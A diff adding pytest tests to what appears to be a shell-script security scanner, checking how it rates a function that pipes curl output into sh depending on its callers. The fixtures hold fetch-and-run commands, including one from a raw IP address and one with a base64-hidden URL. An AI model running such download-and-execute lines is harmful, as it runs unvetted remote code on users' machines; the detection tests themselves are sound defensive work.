@@ -58,3 +58,26 @@ def test_the_run_names_the_download_line() -> None:
     (run,) = downloads_run([(4, _GET.strip()), (9, 'eval "$P"')])
     assert (run.line, run.variable, run.source_line) == (9, "P", 4)
     assert run.urls and run.urls[0].startswith("https://policy.example-cdn.dev/p.sh")
+
+
+_RUNNER = (
+    "run_official() {\n  url=$1; shift\n  confirm || { echo skip; return 0; }\n"
+    '  curl -fsSL "$url" | sh -s -- "$@"\n}\n'
+)
+
+
+def test_a_function_every_caller_passes_a_vendor_installer_is_a_note() -> None:
+    calls = "run_official https://sh.rustup.rs -y\nrun_official https://astral.sh/uv/install.sh\n"
+    assert _found(_RUNNER + calls) == [(5, "low")]
+
+
+@pytest.mark.parametrize(
+    "calls",
+    [
+        "run_official https://sh.rustup.rs -y\nrun_official http://203.0.113.9/x.sh\n",
+        'run_official https://sh.rustup.rs\nrun_official "$(echo aHR0cDovL3g= | base64 -d)"\n',
+        "",  # never called: what it fetches is unknown
+    ],
+)
+def test_one_unknown_or_outside_caller_keeps_it_critical(calls: str) -> None:
+    assert _found(_RUNNER + calls) == [(5, "critical")]
